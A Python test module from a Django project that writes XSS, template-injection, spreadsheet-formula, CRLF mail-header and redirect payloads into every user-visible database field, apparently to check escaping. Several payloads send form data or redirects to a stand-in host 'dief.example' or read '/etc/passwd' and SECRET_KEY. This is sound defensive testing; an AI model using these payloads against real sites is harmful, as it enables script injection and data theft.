# SPDX-FileCopyrightText: 2026 Contributors to Dichterbij
# SPDX-License-Identifier: EUPL-1.2
"""Words that want to be more than words, and everybody's fields full of them.

`ran()` is what a script would call; `data-k` is on every element that must never become one.
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Iterator

from django.db import models

from dichterbij.people.keys.sealed import Sealed
from tests.test_shape import our_models
from tests.world import PUBLIC

THIEF = "dief.example"
WORKED_OUT = "uitgerekend9"
MARKUP = [
    "<script data-k>ran()</script>",
    "<ScRiPt data-k>ran()</sCrIpT>",
    "<svg data-k onload=ran()>",
    "<svg/data-k/onload=ran()>",
    "<img data-k src=x onerror=ran()>",
    '"><b data-k onclick=ran()>',
    "'><b data-k onclick=ran()>",
    '" data-k onfocus="ran()" x="',
    "' data-k onfocus='ran()' x='",
    " data-k onfocus=ran() ",
    "</textarea><script data-k>ran()</script>",
    "</title><svg data-k onload=ran()>",
    "</script><svg data-k onload=ran()>",
    "--><svg data-k onload=ran()>",
    "<!--><img data-k src=x onerror=ran()>",
    '<iframe data-k srcdoc="<script>parent.ran()</script>"></iframe>',
    '<a data-k href="javascript:ran()">kijk</a>',
    '<a data-k href="java&#9;script:ran()">kijk</a>',
    "<style data-k>*{display:none}</style>",
    "<b data-k style=color:red>",
    f'<form data-k action="https://{THIEF}"><button>',
    f'<base data-k href="https://{THIEF}/">',
    f'<meta data-k http-equiv=refresh content="9;url=https://{THIEF}/">',
    f"<link data-k rel=stylesheet href=https://{THIEF}/a.css>",
    f"<link data-k rel=attachment href=https://{THIEF}/a>",
    "<link data-k rel=attachment href=file:///etc/passwd>",
    "<object data-k data=javascript:ran()></object>",
    "<details data-k open ontoggle=ran()>",
    "<math data-k><mtext><mglyph><svg onload=ran()>",
    '<div data-k hx-get="/" hx-trigger="load" hx-on::load="ran()">',
    "<template data-k><script>ran()</script></template>",
]
WORDS = [
    "javascript:ran()",
    f"https://{THIEF}/inloggen",
    "&lt;svg data-k onload=ran()&gt;",
    "&#60;svg data-k onload=ran()&#62;",
    r"\u003csvg data-k onload=ran()\u003e",
    "＜svg data-k onload=ran()＞",
    '{{"uit"|add:"gerekend9"}}',
    "{{ settings.SECRET_KEY }}",
    "{% load nergens %}{% debug %}",
    "${ran()} #{ran()} <%= ran() %>",
    "%s %(name)s {0.__class__}",
    "{link} {name} {",
    "\u202egnirts\u202c \u2066x\u2069",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd",
    f"A\r\nBcc: dief@{THIEF}",
    f"A\nSubject: gratis\n\n{THIEF}",
    "A\r\nEND:VEVENT\r\nATTENDEE:b",
]
PAYLOADS = MARKUP + WORDS
# Written by the program alone, and no words: whose turn it is, why a mail failed, a calendar file,
# which kind of thing was let go
CODES = PUBLIC | {"turn", "outcome", "calendar", "kind"}
AT_ONCE = 9  # as many as fit in one field, but no more
ROUNDS = 2


def texts() -> Iterator[tuple[type[models.Model], models.Field[str, str]]]:
    """Every field with words that somebody ever sees."""
    for model in our_models():
        for name, acts in getattr(model, "seen_with", {}).items():
            field = model._meta.get_field(name)
            code = field.choices or name in CODES or isinstance(field, models.UUIDField)
            if acts is not None and not code and not field.is_relation:
                yield model, field


def choice(first: int, longest: int) -> list[str]:
    """As many payloads as fit, beginning at the first."""
    chosen: list[str] = []
    around = [PAYLOADS[(first + n) % len(PAYLOADS)] for n in range(len(PAYLOADS))]
    for payload in around:
        if len("  ".join([*chosen, payload])) <= longest and len(chosen) < AT_ONCE:
            chosen.append(payload)
    return chosen


def poison(turn: int) -> dict[str, list[str]]:
    """Put payloads in every field of every row; the next turn gives each field others."""
    put: dict[str, list[str]] = defaultdict(list)
    for number, (model, field) in enumerate(texts()):
        longest = field.max_length or 2000
        for row, pk in enumerate(model._base_manager.values_list("pk", flat=True)):
            unique = f" {pk}" if field.unique else ""
            room = longest - len(unique)
            chosen = choice(number * 11 + turn * 17 + row * 5, room)
            words = "  ".join(chosen) + unique
            if isinstance(field, models.EmailField):
                chosen = [c for c in chosen if "Bcc" in c] or chosen[:1]
                words = f"{chosen[0]}@post.example"
            if isinstance(field, Sealed):
                thing = model._base_manager.get(pk=pk)
                setattr(thing, field.name, words)
                thing.save(update_fields=[field.name])
            else:
                model._base_manager.filter(pk=pk).update(**{field.name: words})
            put[f"{model._meta.label}.{field.name}"] += chosen
    return put
